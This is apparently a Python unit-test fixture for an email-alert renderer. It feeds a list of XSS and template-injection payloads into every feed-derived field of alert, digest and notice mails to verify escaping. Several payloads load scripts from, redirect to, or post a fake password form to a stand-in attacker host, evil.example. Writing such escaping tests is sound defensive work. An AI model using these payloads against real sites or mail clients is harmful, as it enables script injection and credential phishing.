"""Payloads that would live in the HTML of a mail if anything of a feed got there unescaped. They call top.hit()."""

from __future__ import annotations

from dataclasses import replace

from alerts.alert import Kind, Message, Sibling
from alerts.event import Counterpart
from alerts.render.form import FORMS
from alerts.standing import Standing
from tests.unit.mailcases import ENGLISH, NOW, ZONE, delivery, hit

PAYLOADS = [
    "<script>top.hit()</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>top.hit()</scr</script>ipt>",
    "<script\x00>top.hit()</script>",
    "<img src=x onerror=top.hit()>",
    "<img src=https://evil.example/pixel.gif width=1 height=1>",
    "<img src=`x` onerror=top.hit()>",
    '<IMG """><SCRIPT>top.hit()</SCRIPT>">',
    "<svg onload=top.hit()>",
    "<svg><script>top.hit()</script></svg>",
    "<svg/onload=top.hit()//",
    "<math><mtext><table><mglyph><style><img src=x onerror=top.hit()>",
    "<form action=https://evil.example><input name=password><button>Log in</button></form>",
    "<iframe src=javascript:top.hit()></iframe>",
    "<iframe srcdoc='<script>top.hit()</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "</style><script>top.hit()</script>",
    "</title><script>top.hit()</script>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<body onload=top.hit()>",
    "<a href=javascript:top.hit()>click</a>",
    "<a href='https://evil.example/'>your bank</a>",
    "<details open ontoggle=top.hit()>",
    "<video><source onerror=top.hit()></video>",
    "<audio src=x onerror=top.hit()>",
    "<input autofocus onfocus=top.hit()>",
    "<marquee onstart=top.hit()>",
    "<template><script>top.hit()</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=top.hit()>'>",
    "<!--><script>top.hit()</script>-->",
    "--><script>top.hit()</script><!--",
    "]]><script>top.hit()</script>",
    '" onmouseover="top.hit()',
    "' autofocus onfocus='top.hit()",
    '"><script>top.hit()</script>',
    "<div style='background:url(https://evil.example/x.png)'>",
    '<div style="width:expression(top.hit())">',
    "&lt;script&gt;top.hit()&lt;/script&gt;",
    "&#60;script&#62;top.hit()&#60;/script&#62;",
    "\u202e<script>top.hit()</script>",
    "\uff1cscript\uff1etop.hit()\uff1c/script\uff1e",
    "\u2068</bdi><script>top.hit()</script>\u2069",
    "<bdi onclick=top.hit()>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% import os %} %(x)s {0.__class__} \\N{BULLET}",
]


def attacked(payload: str) -> list[Message]:
    """Render an alert, a digest and a notice that have the payload in every text that others write."""
    text = f"Militia {payload} base"
    article = replace(
        ENGLISH.article,
        title=text,
        text=f"{text} militia {payload}",
        outlet=text,
        lang=payload,
        url=f"https://outlet.example/{payload}",
    )
    found = (hit("$militia", article.body, "body", "militia"), hit(payload, article.body, "body", payload))
    bad = replace(
        ENGLISH,
        article=article,
        causes=(replace(ENGLISH.causes[0], hits=found, title=text, pir=payload),),
        outlets=(text, payload),
        changes=(payload,),
        siblings=(Sibling("s1", text, payload),),
        counterparts=(Counterpart("s3", payload, payload, text, NOW, payload, 5, 0.7),),
        glosses=(payload,),
        standing=Standing((payload,), "C"),
    )
    form = FORMS["watchmail"]
    return [
        form.alert(delivery(Kind.UPDATE, bad, notes=(payload,)), bad, ZONE),
        form.digest(delivery(Kind.DIGEST, notes=(payload,)), [bad], ZONE),
        form.notice(delivery(Kind.NOTICE, payload={"title": payload, "body": f"a\n{payload}"})),
    ]
